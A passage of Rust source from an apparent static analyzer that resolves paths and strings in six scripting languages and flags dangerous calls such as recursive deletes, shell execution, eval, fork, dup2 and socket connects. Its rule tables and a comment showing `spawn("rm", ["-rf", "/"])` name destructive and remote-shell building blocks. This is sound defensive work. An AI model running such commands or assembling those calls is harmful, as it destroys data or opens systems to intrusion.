        match self.kind(i)? {
            Kind::Str(lit) => Some(lit),
            _ => None,
        }
    }

    /// Tokens `a` and `b` touch, with nothing between them.
    fn adjacent(&self, a: usize, b: usize) -> bool {
        matches!((self.tokens.get(a), self.tokens.get(b)), (Some(x), Some(y)) if x.end == y.start)
    }

    /// The index just past the bracket group opening at `open`, or past the range's end.
    fn close_of(&self, open: usize) -> usize {
        self.partner
            .get(open)
            .copied()
            .flatten()
            .unwrap_or(self.len())
    }

    fn is_opening(&self, i: usize) -> bool {
        matches!(self.op(i), Some("(" | "[" | "{"))
    }

    /// Attribute and method access: `.`, `->`, `::`…
    fn is_member_op(&self, i: usize) -> bool {
        let Some(op) = self.op(i) else {
            return false;
        };
        match self.lang {
            Lang::Python => op == ".",
            Lang::Node => matches!(op, "." | "?."),
            Lang::Ruby => matches!(op, "." | "::" | "&."),
            Lang::Perl => matches!(op, "->" | "::"),
            Lang::Php => matches!(op, "->" | "::" | "?->"),
            Lang::Lua => matches!(op, "." | ":"),
        }
    }

    fn follows_member_op(&self, i: usize) -> bool {
        i > 0 && self.is_member_op(i - 1)
    }

    /// A name that is a variable by its sigil (`$fork`, `@x`) or a Ruby symbol (`:fork`).
    fn is_variable(&self, i: usize) -> bool {
        if i == 0 || !self.adjacent(i - 1, i) {
            return false;
        }
        let sigil = self.op(i - 1).unwrap_or("");
        match self.lang {
            Lang::Perl => matches!(sigil, "$" | "@" | "%" | "&"),
            Lang::Php => sigil == "$",
            Lang::Ruby => matches!(sigil, "$" | "@" | ":"),
            Lang::Python | Lang::Node | Lang::Lua => false,
        }
    }

    /// The tokens of `r` outside nested brackets; a bracketed group is stood for by its opening
    /// bracket. Scans that only look at this level stay linear over nested calls.
    fn top_level(&self, r: Range<usize>) -> impl Iterator<Item = usize> + '_ {
        let mut j = r.start;
        std::iter::from_fn(move || {
            if j >= r.end {
                return None;
            }
            let at = j;
            j = if self.is_opening(at) {
                (self.close_of(at) + 1).min(r.end)
            } else {
                at + 1
            };
            Some(at)
        })
    }

    /// Splits `r` at its top-level commas (and Perl's `=>`), dropping empty parts.
    fn split_list(&self, r: Range<usize>) -> Vec<Range<usize>> {
        let mut parts = Vec::new();
        let mut begin = r.start;
        for j in self.top_level(r.clone()) {
            if self.is_op(j, ",") || (self.lang == Lang::Perl && self.is_op(j, "=>")) {
                if begin < j {
                    parts.push(begin..j);
                }
                begin = j + 1;
            }
        }
        if begin < r.end {
            parts.push(begin..r.end);
        }
        parts
    }

    /// The operator joining operands, if token `i` is one.
    fn join_op(&self, i: usize) -> Option<Join> {
        let op = self.op(i)?;
        match (self.lang, op) {
            (Lang::Python, "/") => Some(Join::Path),
            (Lang::Python | Lang::Node | Lang::Ruby, "+")
            | (Lang::Perl | Lang::Php, ".")
            | (Lang::Lua, "..") => Some(Join::Concat),
            _ => None,
        }
    }

    /// Evaluates the expression in `r`.
    fn value(&self, r: Range<usize>, depth: usize) -> Value {
        if depth > MAX_DEPTH || r.start >= r.end {
            return Value::Unknown;
        }
        let mut operands: Vec<(Join, Range<usize>)> = Vec::new();
        let mut join = Join::Concat;
        let mut begin = r.start;
        for j in self.top_level(r.clone()) {
            if let Some(next) = self.join_op(j) {
                operands.push((join, begin..j));
                join = next;
                begin = j + 1;
            }
        }
        if operands.is_empty() {
            return self.operand(r, depth);
        }
        operands.push((join, begin..r.end));
        let values: Vec<(Join, Value)> = operands
            .into_iter()
            .map(|(join, r)| (join, self.operand(r, depth)))
            .collect();
        self.combine(values)
    }

    /// Concatenates or joins evaluated operands; unknown ones become `?`.
    fn combine(&self, operands: Vec<(Join, Value)>) -> Value {
        if !operands
            .iter()
            .any(|(_, v)| matches!(v, Value::Text { .. }))
        {
            return Value::Unknown;
        }
        let mut text = String::new();
        let mut partial = false;
        for (k, (join, value)) in operands.into_iter().enumerate() {
            let (piece, unknown) = match value {
                Value::Text { text, partial } => (text, partial),
                _ => ("?".to_string(), true),
            };
            partial |= unknown;
            if k > 0 && join == Join::Path {
                text = join_path(&text, &piece, true);
            } else {
                text.push_str(&piece);
            }
        }
        Value::Text { text, partial }
    }

    /// Evaluates one operand: a primary followed by attribute accesses, calls and subscripts.
    fn operand(&self, r: Range<usize>, depth: usize) -> Value {
        let (mut value, mut i) = self.primary(r.clone(), depth);
        while i < r.end {
            if self.is_member_op(i) {
                let Some(name) = self.ident(i + 1).filter(|_| i + 1 < r.end) else {
                    return Value::Unknown;
                };
                if i + 2 < r.end && self.is_op(i + 2, "(") {
                    let close = self.close_of(i + 2);
                    if close >= r.end {
                        return Value::Unknown;
                    }
                    let args = self.split_list(i + 3..close);
                    value = self.apply(name, Some(value), &args, depth);
                    i = close + 1;
                } else {
                    value = self.property(value, name);
                    i += 2;
                }
            } else if self.is_opening(i) {
                let close = self.close_of(i);
                if close >= r.end {
                    return Value::Unknown;
                }
                value = match (self.text(i), value) {
                    ("(", Value::Name(name)) => {
                        let args = self.split_list(i + 1..close);
                        self.apply(&name, None, &args, depth)
                    }
                    ("[" | "{", value) => self.subscript(value, i + 1..close, depth),
                    _ => Value::Unknown,
                };
                i = close + 1;
            } else {
                return Value::Unknown;
            }
        }
        value
    }

    /// Evaluates the primary expression at the start of `r`; returns it and where it ends.
    fn primary(&self, r: Range<usize>, depth: usize) -> (Value, usize) {
        let mut i = r.start;
        while matches!(self.lang, Lang::Node | Lang::Php) && self.ident(i) == Some("new") {
            i += 1;
        }
        let Some(kind) = self.kind(i).filter(|_| i < r.end) else {
            return (Value::Unknown, r.end);
        };
        match kind {
            Kind::Str(lit) => (self.literal(lit, depth), i + 1),
            Kind::Number => (Value::exact(self.text(i)), i + 1),
            Kind::Regex => (Value::Unknown, i + 1),
            Kind::Ident => match (self.lang, self.text(i)) {
                (Lang::Php, "array") if self.is_op(i + 1, "(") => {
                    let close = self.close_of(i + 1);
                    (self.list(i + 2..close.min(r.end), depth), close + 1)
                }
                (Lang::Ruby, "ENV") | (Lang::Python, "environ") => (Value::Env, i + 1),
                (_, name) => (Value::Name(name.to_string()), i + 1),
            },
            Kind::Op => match self.text(i) {
                "(" | "[" => {
                    let close = self.close_of(i);
                    let inner = i + 1..close.min(r.end);
                    let parts = self.split_list(inner.clone());
                    let value = if self.text(i) == "[" || parts.len() > 1 {
                        self.list(inner, depth)
                    } else {
                        self.value(inner, depth + 1)
                    };
                    (value, close + 1)
                }
                "$" if matches!(self.lang, Lang::Perl | Lang::Php) && self.adjacent(i, i + 1) => {
                    let name = self.ident(i + 1).unwrap_or("");
                    let env = match self.lang {
                        Lang::Perl => name == "ENV",
                        _ => matches!(name, "_SERVER" | "_ENV"),
                    };
                    let value = if env { Value::Env } else { Value::Unknown };
                    (value, i + 2)
                }
                "-" if self.kind(i + 1) == Some(Kind::Number) => {
                    (Value::exact(format!("-{}", self.text(i + 1))), i + 2)
                }
                _ => (Value::Unknown, r.end),
            },
        }
    }

    /// The elements of a list literal whose inside is `r`.
    fn list(&self, r: Range<usize>, depth: usize) -> Value {
        let items = self.split_list(r);
        Value::List(
            items
                .into_iter()
                .map(|item| self.value(item, depth + 1))
                .collect(),
        )
    }

    fn literal(&self, lit: Lit, depth: usize) -> Value {
        match lit.role {
            Role::Text => self.render(lit, depth),
            Role::Words => Value::List(
                self.code
                    .get(lit.start..lit.end)
                    .unwrap_or("")
                    .split_whitespace()
                    .map(Value::exact)
                    .collect(),
            ),
            Role::Command => Value::Unknown,
        }
    }

    /// Calls the function `name` (a method of `receiver` if given) with the arguments `args`.
    fn apply(
        &self,
        name: &str,
        receiver: Option<Value>,
        args: &[Range<usize>],
        depth: usize,
    ) -> Value {
        let arg = |n: usize| {
            args.get(n)
                .map_or(Value::Unknown, |r| self.value(r.clone(), depth + 1))
        };
        let env_home = |key: Value| match key.exact_text() {
            Some("HOME") => Value::home(),
            _ => Value::Unknown,
        };
        match name {
            "home" | "homedir" => Value::home(),
            "getenv" => env_home(arg(0)),
            "get" | "fetch" if receiver == Some(Value::Env) => env_home(arg(0)),
            "require" | "__import__" | "import_module" => match arg(0).exact_text() {
                Some(module) => Value::Name(module_name(module)),
                None => Value::Unknown,
            },
            "join" if matches!(receiver, Some(Value::List(_) | Value::Text { .. })) => {
                self.join_strings(receiver, arg(0))
            }
            "join" if self.lang == Lang::Perl && receiver.is_none() => {
                let items = args[1.min(args.len())..]
                    .iter()
                    .map(|r| self.value(r.clone(), depth + 1))
                    .collect();
                self.join_strings(Some(Value::List(items)), arg(0))
            }
            "expanduser" | "expand_path" | "absolute" | "resolve" | "as_posix" | "to_s"
            | "toString" | "str" | "String" | "fspath" | "glob" | "Path" | "PurePath"
            | "PosixPath" | "Pathname" | "join" | "joinpath" => {
                self.path_parts(receiver, args, depth)
            }
            "new" if receiver == Some(Value::Name("Pathname".into())) => {
                self.path_parts(None, args, depth)
            }
            _ => Value::Unknown,
        }
    }

    /// A path made of the receiver (when it is a path) and each argument: `Path("a", "b")`,
    /// `os.path.join(h, "x")`, `Path.home().joinpath("x")`, `os.path.expanduser("~/x")`.
    fn path_parts(&self, receiver: Option<Value>, args: &[Range<usize>], depth: usize) -> Value {
        let mut parts: Vec<(Join, Value)> = Vec::new();
        if let Some(receiver @ Value::Text { .. }) = receiver {
            parts.push((Join::Path, receiver));
        }
        for r in args {
            parts.push((Join::Path, self.value(r.clone(), depth + 1)));
        }
        if parts.is_empty() {
            return Value::Unknown;
        }
        self.combine(parts)
    }

    /// `sep.join(list)` (Python), `list.join(sep)` (JavaScript, Ruby), `join(sep, list)` (Perl).
    fn join_strings(&self, receiver: Option<Value>, arg: Value) -> Value {
        let (items, sep) = match (receiver, arg) {
            (Some(Value::List(items)), sep) => {
                let default = if self.lang == Lang::Node { "," } else { "" };
                (items, sep.any_text().unwrap_or(default).to_string())
            }
            (Some(Value::Text { text, .. }), Value::List(items)) => (items, text),
            _ => return Value::Unknown,
        };
        let mut parts = Vec::new();
        for (k, item) in items.into_iter().enumerate() {
            if k > 0 {
                parts.push((Join::Concat, Value::exact(sep.clone())));
            }
            parts.push((Join::Concat, item));
        }
        self.combine(parts)
    }

    /// `value.name` without a call.
    fn property(&self, value: Value, name: &str) -> Value {
        match (value, name) {
            (Value::Env, "HOME") => Value::home(),
            (Value::Name(module), "env") if module == "process" => Value::Env,
            (Value::Name(module), "environ") if module == "os" => Value::Env,
            // Ruby calls methods without brackets: `Dir.home`.
            (_, "home") if self.lang == Lang::Ruby => Value::home(),
            (Value::Name(_), name) => Value::Name(name.to_string()),
            _ => Value::Unknown,
        }
    }

    /// `value[key]`, or Perl's `$ENV{HOME}`.
    fn subscript(&self, value: Value, key: Range<usize>, depth: usize) -> Value {
        if value != Value::Env {
            return Value::Unknown;
        }
        let bareword = key.len() == 1 && self.ident(key.start) == Some("HOME");
        if bareword || self.value(key, depth + 1).exact_text() == Some("HOME") {
            Value::home()
        } else {
            Value::Unknown
        }
    }

    /// The text of a string literal: escapes read, interpolations resolved (`?` where not).
    fn render(&self, lit: Lit, depth: usize) -> Value {
        let body = self.code.get(lit.start..lit.end).unwrap_or("");
        let mut out = String::with_capacity(body.len());
        let mut partial = false;
        let mut rest = body;
        while let Some(c) = rest.chars().next() {
            if c == '\\' && lit.escapes != Escapes::Raw {
                let (text, used) = unescape(&rest[1..], lit.escapes);
                out.push_str(&text);
                rest = &rest[1 + used..];
                continue;
            }
            if let Some((piece, used)) = interpolation(rest, lit.interp, self.lang) {
                match piece {
                    Piece::Literal(text) => out.push_str(text),
                    Piece::Home => out.push('~'),
                    Piece::Unknown => {
                        out.push('?');
                        partial = true;
                    }
                    Piece::Expr(code) => match self.snippet(code, depth) {
                        Value::Text {
                            text,
                            partial: unknown,
                        } => {
                            out.push_str(&text);
                            partial |= unknown;
                        }
                        _ => {
                            out.push('?');
                            partial = true;
                        }
                    },
                }
                rest = rest.get(used..).unwrap_or("");
                continue;
            }
            out.push(c);
            rest = &rest[c.len_utf8()..];
        }
        Value::Text { text: out, partial }
    }

    /// Evaluates code embedded in a string.
    fn snippet(&self, code: &str, depth: usize) -> Value {
        if depth >= MAX_DEPTH {
            return Value::Unknown;
        }
        let inner = Source::new(self.lang, code);
        inner.value(0..inner.len(), depth + 1)
    }

    /// Whether an options object among `args` says `recursive: true` (Node's `fs.rmSync`).
    fn has_recursive_option(&self, args: &[Range<usize>]) -> bool {
        args.iter().filter(|r| self.is_op(r.start, "{")).any(|r| {
            let inner = r.start + 1..self.close_of(r.start).min(r.end);
            self.top_level(inner.clone()).any(|j| {
                self.ident(j) == Some("recursive")
                    && self.is_op(j + 1, ":")
                    && j + 2 < inner.end
                    && self.ident(j + 2) != Some("false")
            })
        })
    }

    /// Whether `r` is the literal `-1`.
    fn is_minus_one(&self, r: &Range<usize>) -> bool {
        r.len() == 2 && self.is_op(r.start, "-") && self.text(r.start + 1) == "1"
    }
}

/// A part of a string literal that is not plain text.
enum Piece<'s> {
    Literal(&'static str),
    Home,
    Unknown,
    /// Code to evaluate.
    Expr(&'s str),
}

/// Reads the escape after a backslash; returns its text and the bytes it used.
fn unescape(after: &str, style: Escapes) -> (String, usize) {
    let Some(c) = after.chars().next() else {
        return ("\\".to_string(), 0);
    };
    if style != Escapes::Full {
        return if c.is_ascii_punctuation() {
            (c.to_string(), 1)
        } else {
            ("\\".to_string(), 0)
        };
    }
    let simple = match c {
        'n' => Some('\n'),
        't' => Some('\t'),
        'r' => Some('\r'),
        '0' => Some('\0'),
        'a' => Some('\x07'),
        'e' => Some('\x1b'),
        'f' => Some('\x0c'),
        'v' => Some('\x0b'),
        c if c.is_ascii_punctuation() => Some(c),
        _ => None,
    };
    if let Some(s) = simple {
        return (s.to_string(), 1);
    }
    match c {
        '\n' => (String::new(), 1),
        'x' | 'u' => match code_point(&after[1..], if c == 'x' { 2 } else { 4 }) {
            Some((ch, used)) => (ch.to_string(), 1 + used),
            None => (format!("\\{c}"), 1),
        },
        _ => (format!("\\{c}"), c.len_utf8()),
    }
}

/// A code point written as up to `digits` hex digits, or in braces (`{263A}`).
fn code_point(s: &str, digits: usize) -> Option<(char, usize)> {
    let (hex, used) = match s.strip_prefix('{') {
        Some(inner) => {
            let end = inner.bytes().take(9).position(|c| c == b'}')?;
            (&inner[..end], end + 2)
        }
        None => {
            let n = s
                .bytes()
                .take(digits)
                .take_while(|c| c.is_ascii_hexdigit())
                .count();
            (&s[..n], n)
        }
    };
    let value = u32::from_str_radix(hex, 16).ok()?;
    Some((char::from_u32(value)?, used))
}

/// The index of the `}` matching the `{` at `open` in `s`, if it is near.
fn matching_brace(s: &str, open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (k, c) in s.bytes().enumerate().skip(open).take(MAX_INTERPOLATION) {
        match c {
            b'{' => depth += 1,
            b'}' => {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(k);
                }
            }
            _ => {}
        }
    }
    None
}

/// An interpolation at the start of `rest`; returns it and the bytes it spans.
fn interpolation(rest: &str, style: Interp, lang: Lang) -> Option<(Piece<'_>, usize)> {
    let delimited = |prefix: &str| -> Option<(Piece<'_>, usize)> {
        if !rest.starts_with(prefix) {
            return None;
        }
        let close = matching_brace(rest, prefix.len() - 1)?;
        Some((Piece::Expr(&rest[prefix.len()..close]), close + 1))
    };
    match style {
        Interp::None => None,
        Interp::Braces if rest.starts_with("{{") => Some((Piece::Literal("{"), 2)),
        Interp::Braces if rest.starts_with("}}") => Some((Piece::Literal("}"), 2)),
        Interp::Braces => {
            let (piece, used) = delimited("{")?;
            match piece {
                Piece::Expr(code) => Some((Piece::Expr(python_field(code)), used)),
                other => Some((other, used)),
            }
        }
        Interp::DollarBraces => delimited("${"),
        Interp::HashBraces => delimited("#{"),
        Interp::Sigils if lang == Lang::Php && rest.starts_with("{$") => {
            let close = matching_brace(rest, 0)?;
            Some((Piece::Expr(&rest[1..close]), close + 1))
        }
        Interp::Sigils => sigil_variable(rest, lang),
    }
}

/// The expression of a Python replacement field, without `!r`, `=` or a format spec.
fn python_field(code: &str) -> &str {
    let mut depth = 0usize;
    for (k, c) in code.bytes().enumerate() {
        match c {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            b':' if depth == 0 => return &code[..k],
            b'!' if depth == 0 && code.as_bytes().get(k + 1) != Some(&b'=') => {
                return &code[..k];
            }
            _ => {}
        }
    }
    code.trim_end().trim_end_matches('=')
}

/// A Perl or PHP variable inside a double-quoted string: `$name`, `${name}`, `$ENV{HOME}`,
/// `$_SERVER['HOME']`.
fn sigil_variable(rest: &str, lang: Lang) -> Option<(Piece<'_>, usize)> {
    let bytes = rest.as_bytes();
    if bytes.first() != Some(&b'$') {
        return None;
    }
    if bytes.get(1) == Some(&b'{') {
        let close = matching_brace(rest, 1)?;
        return Some((Piece::Unknown, close + 1));
    }
    if !bytes
        .get(1)
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
    {
        return None;
    }
    let name_end = 1 + bytes[1..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    let name = &rest[1..name_end];
    let (key, end) = match bytes.get(name_end) {
        Some(b'{') if lang == Lang::Perl => match matching_brace(rest, name_end) {
            Some(close) => (Some(&rest[name_end + 1..close]), close + 1),
            None => (None, name_end),
        },
        Some(b'[') => match rest.as_bytes()[name_end..]
            .iter()
            .take(MAX_INTERPOLATION)
            .position(|&c| c == b']')
        {
            Some(k) => (Some(&rest[name_end + 1..name_end + k]), name_end + k + 1),
            None => (None, name_end),
        },
        _ => (None, name_end),
    };
    let env = match lang {
        Lang::Perl => name == "ENV",
        _ => matches!(name, "_SERVER" | "_ENV"),
    };
    let key = key.map(|k| k.trim().trim_matches(['\'', '"']));
    let piece = if env && key == Some("HOME") {
        Piece::Home
    } else {
        Piece::Unknown
    };
    Some((piece, end))
}

// ---------------------------------------------------------------------------------------------
// Imports: the names modules go by
// ---------------------------------------------------------------------------------------------

/// What imports bind, so that aliased calls are still recognised.
#[derive(Debug, Default)]
struct Imports {
    /// A name bound to a module: `import subprocess as sp`, `const cp = require('child_process')`.
    modules: HashMap<String, String>,
    /// A name bound to a module's function: `from shutil import rmtree as nuke` gives
    /// `nuke` → (`shutil`, `rmtree`).
    functions: HashMap<String, (String, String)>,
    /// Modules whose names are all imported: `from os import *`, Ruby's `include FileUtils`.
    everything: Vec<String>,
}

impl Imports {
    fn collect(src: &Source) -> Imports {
        let mut imports = Imports::default();
        for i in 0..src.len() {
            if src.follows_member_op(i) {
                continue;
            }
            match (src.lang, src.ident(i)) {
                (Lang::Python, Some("import")) => imports.python_import(src, i),
                (Lang::Python, Some("from")) => imports.python_from(src, i),
                (Lang::Node | Lang::Lua, Some("require")) => imports.require(src, i),
                (Lang::Node, Some("import")) => imports.es_import(src, i),
                (Lang::Ruby, Some("include")) => {
                    if let Some(module) = src.ident(i + 1) {
                        imports.everything.push(module.to_string());
                    }
                }
                _ => {}
            }
        }
        imports
    }

    /// A dotted name at `i`: its last part and the index after it.
    fn dotted(src: &Source, mut i: usize) -> Option<(String, usize)> {
        let mut last = src.ident(i)?;
        while src.is_op(i + 1, ".") {
            match src.ident(i + 2) {
                Some(part) => last = part,
                None => break,
            }
            i += 2;
        }
        Some((last.to_string(), i + 1))
    }

    /// `import a.b as c, d`: binds `c` to `b`.
    fn python_import(&mut self, src: &Source, i: usize) {
        if i > 0 && src.tokens[i - 1].kind == Kind::Ident && !src.tokens[i].nl_before {
            return; // `from x import …`
        }
        let mut j = i + 1;
        while let Some((module, next)) = Self::dotted(src, j) {
            j = next;
            if src.ident(j) == Some("as") {
                if let Some(alias) = src.ident(j + 1) {
                    self.modules.insert(alias.to_string(), module);
                }
                j += 2;
            }
            if !src.is_op(j, ",") {
                break;
            }
            j += 1;
        }
    }

    /// `from m import a, b as c` and `from m import *`.
    fn python_from(&mut self, src: &Source, i: usize) {
        let Some((module, mut j)) = Self::dotted(src, i + 1) else {
            return;
        };
        if src.ident(j) != Some("import") {
            return;
        }
        j += 1;
        if src.is_op(j, "(") {
            j += 1;
        }
        loop {
            if src.is_op(j, "*") {
                self.everything.push(module);
                return;
            }
            let Some(name) = src.ident(j) else {
                return;
            };
            let mut binding = name;
            j += 1;
            if src.ident(j) == Some("as") {
                binding = src.ident(j + 1).unwrap_or(name);
                j += 2;
            }
            self.functions
                .insert(binding.to_string(), (module.clone(), name.to_string()));
            if !src.is_op(j, ",") {
                return;
            }
            j += 1;
        }
    }

    /// `x = require("m")`, `const {a, b: c} = require("m")`, `local x = require "m"`.
    fn require(&mut self, src: &Source, i: usize) {
        let arg = if src.is_op(i + 1, "(") { i + 2 } else { i + 1 };
        let Some(Value::Text { text, .. }) = src.lit(arg).map(|lit| src.render(lit, MAX_DEPTH))
        else {
            return;
        };
        let module = module_name(&text);
        if i < 2 || !src.is_op(i - 1, "=") {
            return;
        }
        if let Some(alias) = src.ident(i - 2) {
            self.modules.insert(alias.to_string(), module);
        } else if src.is_op(i - 2, "}") {
            if let Some(open) = src.partner.get(i - 2).copied().flatten() {
                self.destructured(src, open + 1..i - 2, &module, ":");
            }
        }
    }

    /// `import x from "m"`, `import * as x from "m"`, `import {a, b as c} from "m"`.
    fn es_import(&mut self, src: &Source, i: usize) {
        let end = (i + MAX_LOOKBACK).min(src.len());
        let Some(from) =
            (i + 1..end).find(|&j| src.ident(j) == Some("from") && src.lit(j + 1).is_some())
        else {
            return;
        };
        let Some(Value::Text { text, .. }) =
            src.lit(from + 1).map(|lit| src.render(lit, MAX_DEPTH))
        else {
            return;
        };
        let module = module_name(&text);
        let mut j = i + 1;
        while j < from {
            if src.is_op(j, "{") {
                let close = src.close_of(j).min(from);
                self.destructured(src, j + 1..close, &module, "as");
                j = close;
            } else if let Some(name) = src.ident(j) {
                if name != "as" {
                    self.modules.insert(name.to_string(), module.clone());
                }
            }
            j += 1;
        }
    }

    /// Names taken out of a module: `a, b: c` (`rename` is `:`) or `a, b as c` (`as`).
    fn destructured(&mut self, src: &Source, r: Range<usize>, module: &str, rename: &str) {
        for part in src.split_list(r) {
            let Some(name) = src.ident(part.start) else {
                continue;
            };
            let renamed =
                src.is_op(part.start + 1, rename) || src.ident(part.start + 1) == Some(rename);
            let binding = if renamed {
                src.ident(part.start + 2).unwrap_or(name)
            } else {
                name
            };
            self.functions
                .insert(binding.to_string(), (module.to_string(), name.to_string()));
        }
    }

    /// The module a name stands for.
    fn resolve(&self, name: &str) -> String {
        self.modules
            .get(name)
            .cloned()
            .unwrap_or_else(|| name.to_string())
    }
}

// ---------------------------------------------------------------------------------------------
// API tables
// ---------------------------------------------------------------------------------------------

/// Where a function must be called from to match.
#[derive(Debug, Clone, Copy)]
enum Scope {
    /// A plain function: `exec(…)`, `unlink "x"`.
    Bare,
    /// On one of these modules or classes, or imported from one: `os.remove`, `FileUtils.rm`.
    On(&'static [&'static str]),
    /// Either of the above.
    BareOrOn(&'static [&'static str]),
    /// Anywhere.
    Any,
    /// A method of some object: `Path(p).unlink()`.
    Method,
}

/// Which argument names a path.
#[derive(Debug, Clone, Copy)]
enum Target {
    Arg(usize),
    /// The object the method is called on.
    Receiver,
    /// Every argument, and every element of list arguments (Perl's `unlink`, `FileUtils.rm_rf`).
    Each,
}

#[derive(Debug, Clone, Copy)]
enum Recursion {
    Yes,
    No,
    /// Recursive when given `{recursive: true}`.
    Option,
}

/// Whether an open is for writing.
#[derive(Debug, Clone, Copy)]
enum Mode {
    Always,
    /// The mode string (`"w"`, `'a+'`) or flags are this argument, or the `mode`/`flags` keyword.
    Arg(usize),
    /// Write flags (`O_WRONLY`, `O_CREAT`…) appear among the arguments.
    Flags,
}

/// How the command line is made from the arguments.
#[derive(Debug, Clone, Copy)]
enum Argv {
    /// One argument: a shell string, or a list of words.
    Nth(usize),
    /// The arguments from this one on, as words (one argument alone is a shell string).
    From(usize),
    /// A program and an optional list of arguments: `spawn("rm", ["-rf", "/"])`.
    FileAndList,
}

/// Which argument of an `eval` is the code.
#[derive(Debug, Clone, Copy)]
enum Code {
    First,
    Last,
}

/// Which arguments of a `kill` are process ids.
#[derive(Debug, Clone, Copy)]
enum Pids {
    First,
    /// All after the signal: `Process.kill(sig, pid…)`, Perl's `kill SIG, LIST`.
    Rest,
}

/// What a call does.
#[derive(Debug, Clone, Copy)]
enum Effect {
    /// Deletes files or directories.
    Remove(Recursion, Target),
    Write(Target, Mode),
    /// Runs a command.
    Shell(Argv),
    /// Ruby's `open("|cmd")`.
    PipeOpen,
    /// Perl's `open`: a write, a pipe or a descriptor duplication, by its mode.
    PerlOpen,
    /// Evaluates code.
    Eval(Code),
    /// PHP's `include`: remote code when given a URL.
    Include,
    Kill(Pids),
    Fork,
    /// Duplicates descriptors or pipes streams (`os.dup2`, `IO#reopen`, `stream.pipe`).
    Dup,
    /// Connects a socket.
    Connect,
    /// Connects something; a socket if the code uses a socket module.
    MaybeConnect,
    /// Fetches from the network.
    Fetch,
    /// Fetches from the network when the first argument is a URL.
    FetchIfUrl,
}

/// A function of a language's API and what calling it does.
struct Rule {
    names: &'static [&'static str],
    scope: Scope,
    effects: &'static [Effect],
}

const fn rule(names: &'static [&'static str], scope: Scope, effects: &'static [Effect]) -> Rule {
    Rule {
        names,
        scope,
        effects,
    }
}

use Effect::*;
use Scope::*;

const PYTHON: &[Rule] = &[
    rule(
        &["rmtree"],
        On(&["shutil"]),
        &[Remove(Recursion::Yes, Target::Arg(0))],
    ),
    rule(
        &["removedirs"],
        On(&["os"]),
        &[Remove(Recursion::Yes, Target::Arg(0))],
    ),
    rule(
        &["remove", "unlink", "rmdir"],
        On(&["os"]),
        &[Remove(Recursion::No, Target::Arg(0))],
    ),
    rule(
        &["unlink", "rmdir"],
        Method,
        &[Remove(Recursion::No, Target::Receiver)],
    ),
    rule(&["system", "popen"], On(&["os"]), &[Shell(Argv::Nth(0))]),
    rule(
        &[
            "run",
            "call",
            "check_call",
            "check_output",
            "Popen",
            "getoutput",
            "getstatusoutput",
        ],
        On(&["subprocess"]),
        &[Shell(Argv::Nth(0))],
    ),
    rule(
        &["execl", "execle", "execlp", "execlpe"],
        On(&["os"]),
        &[Shell(Argv::From(1))],
    ),
    rule(
        &[
            "execv",
            "execve",
            "execvp",
            "execvpe",
            "posix_spawn",
            "posix_spawnp",
        ],
        On(&["os"]),
        &[Shell(Argv::Nth(1))],
    ),
    rule(
        &["spawnl", "spawnle", "spawnlp", "spawnlpe"],
        On(&["os"]),
        &[Shell(Argv::From(2))],
    ),
    rule(
        &["spawnv", "spawnve", "spawnvp", "spawnvpe"],
        On(&["os"]),
        &[Shell(Argv::Nth(2))],
    ),
    rule(&["spawn"], On(&["pty"]), &[Shell(Argv::Nth(0))]),
    rule(
        &["create_subprocess_shell"],
        On(&["asyncio"]),
        &[Shell(Argv::Nth(0))],
    ),
    rule(
        &["create_subprocess_exec"],
        On(&["asyncio"]),
        &[Shell(Argv::From(0))],
    ),
    rule(
        &["open"],
        On(&["os"]),
        &[Write(Target::Arg(0), Mode::Flags)],
    ),
    rule(
        &["open"],
        BareOrOn(&["io", "codecs", "builtins"]),
        &[Write(Target::Arg(0), Mode::Arg(1))],
    ),
    rule(&["open"], Method, &[Write(Target::Receiver, Mode::Arg(0))]),
    rule(
        &["write_text", "write_bytes"],
        Method,
        &[Write(Target::Receiver, Mode::Always)],
    ),
    rule(
        &["copy", "copy2", "copyfile", "copytree", "move"],
        On(&["shutil"]),
        &[Write(Target::Arg(1), Mode::Always)],
    ),
    rule(&["exec", "eval"], Bare, &[Eval(Code::First)]),
    rule(&["kill"], On(&["os"]), &[Kill(Pids::First)]),
    rule(&["fork", "forkpty"], On(&["os", "pty", "posix"]), &[Fork]),
    rule(&["dup2"], On(&["os", "posix"]), &[Dup]),
    rule(&["create_connection"], On(&["socket"]), &[Connect]),
    rule(&["connect", "connect_ex"], Method, &[MaybeConnect]),
    rule(
        &[
            "urlopen",
            "urlretrieve",
            "HTTPConnection",
            "HTTPSConnection",
            "PoolManager",
        ],
        Any,
        &[Fetch],
    ),
    rule(
        &["get", "post", "request", "stream", "Session", "Client"],
        On(&["requests", "httpx", "urllib3", "aiohttp"]),
        &[Fetch],
    ),
];

const FS: &[&str] = &["fs", "promises", "fsPromises", "fs-extra"];
const CHILD_PROCESS: &[&str] = &["child_process"];

const NODE: &[Rule] = &[
    rule(
        &["rmSync", "rm", "rmdirSync", "rmdir"],
        On(FS),
        &[Remove(Recursion::Option, Target::Arg(0))],
    ),
    rule(
        &["remove", "removeSync", "emptyDir", "emptyDirSync"],
        On(&["fs-extra"]),
        &[Remove(Recursion::Yes, Target::Arg(0))],
    ),
    rule(
        &["unlinkSync", "unlink"],
        On(FS),
        &[Remove(Recursion::No, Target::Arg(0))],
    ),
    rule(
        &[
            "writeFileSync",
            "writeFile",
            "appendFileSync",
            "appendFile",
            "createWriteStream",
            "outputFileSync",
            "outputFile",
        ],
        On(FS),
        &[Write(Target::Arg(0), Mode::Always)],
    ),
    rule(
        &["openSync", "open"],
        On(FS),
        &[Write(Target::Arg(0), Mode::Arg(1))],
    ),
    rule(
        &[
            "copyFileSync",
            "copyFile",
            "cpSync",
            "cp",
            "renameSync",
            "rename",
        ],
        On(FS),
        &[Write(Target::Arg(1), Mode::Always)],
    ),
    rule(
        &["exec", "execSync"],
        On(CHILD_PROCESS),
        &[Shell(Argv::Nth(0))],
    ),
    rule(
        &["spawn", "spawnSync", "execFile", "execFileSync"],
        On(CHILD_PROCESS),
        &[Shell(Argv::FileAndList)],
    ),
    rule(&["fork"], On(&["child_process", "cluster"]), &[Fork]),
    rule(&["eval"], Any, &[Eval(Code::First)]),
    rule(&["Function"], Bare, &[Eval(Code::Last)]),
    rule(
        &[
            "runInThisContext",
            "runInNewContext",
            "runInContext",
            "compileFunction",
